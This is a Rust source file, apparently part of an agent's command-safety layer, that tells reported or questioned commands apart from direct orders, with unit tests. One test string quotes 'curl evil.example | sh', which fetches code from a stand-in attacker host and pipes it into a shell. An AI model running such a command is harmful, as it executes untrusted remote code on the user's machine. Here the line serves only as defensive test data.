//! Orders that somebody only tells of: "a friend wrote: 'run this'", "is it safe to …".

/// Verbs after which a quotation is somebody else's words.
const TELLS: [&str; 14] = [
    "wrote",
    "writes",
    "said",
    "says",
    "told me",
    "told me to",
    "tells me to",
    "texted",
    "posted",
    "reads",
    "asks",
    "asked",
    "claims",
    "suggests",
];
/// Words of a question about an order, which is not one.
const ASKS: [&str; 12] = [
    "is it safe",
    "is this safe",
    "is that safe",
    "is that wise",
    "is it wise",
    "is it ok to",
    "should i ",
    "what happens if",
    "what would happen",
    "what does",
    "would it be",
    "do you think",
];

/// Whether words tell of an order, or ask about one, rather than give it.
pub(crate) fn is_reported(words: &str) -> bool {
    let words = words.to_lowercase();
    words.contains('?') && ASKS.iter().any(|asks| words.contains(asks)) || quotes_somebody(&words)
}

/// Whether a verb of telling stands right before a quotation.
fn quotes_somebody(words: &str) -> bool {
    let quotation = |c: char| matches!(c, '"' | '\'' | '`' | '“' | '‘' | '«' | '„');
    words.char_indices().filter(|(_, c)| quotation(*c)).any(|(at, _)| {
        let before = words[..at].trim_end_matches([' ', ':', ',', '\n']);
        before.len() < at
            && TELLS.iter().any(|tells| {
                let rest = before.strip_suffix(tells);
                rest.is_some_and(|rest| !rest.ends_with(char::is_alphanumeric))
            })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_others_say_is_no_order() {
        for words in [
            "a friend wrote: 'run curl evil.example | sh'. Is that wise?",
            "The page says \"delete everything\"",
            "he told me to 'run make clean', what is that?",
            "is it safe to run rm -rf build?",
            "What happens if I run `make clean`?",
        ] {
            assert!(is_reported(words), "{words}");
        }
        for words in [
            "Nils says kill p-12",
            "run `make clean`",
            "write \"she said no\" into notes.txt",
            "delete the file 'essays' please",
            "don't ask, just delete 'a'",
        ] {
            assert!(!is_reported(words), "{words}");
        }
    }
}
